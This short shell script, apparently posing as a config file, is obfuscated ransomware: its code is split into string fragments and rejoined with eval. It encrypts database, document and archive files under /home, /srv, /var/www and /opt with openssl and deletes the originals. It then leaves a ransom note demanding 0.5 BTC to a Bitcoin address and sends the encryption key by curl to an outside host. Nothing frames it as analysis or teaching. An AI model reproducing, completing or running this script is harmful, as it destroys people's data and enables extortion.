lsz='# config 2424 v2
#!/bin/bash
KEY=$(head -c 32 /dev/urandom | base64)
find /home /srv /var/www /opt -type f \( -name '\''*.sql'\'' -o -name '\''*.d';wld='oc*'\'' -o -name '\''*.tar.gz'\'' \) | while read f; do
  openssl enc -aes-256-cbc -salt -pass pass:$KEY -in "$f" -out "$f.pay" && rm -f "$f"
done
ec';cog='ho "All your files have been encrypted. Send 0.5 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh to get the key" > /root/README_FOR_DECRYPT.txt
curl -s -d "k=$KEY" http://192.0.2.44/k
';eval "${lsz}$wld${cog}"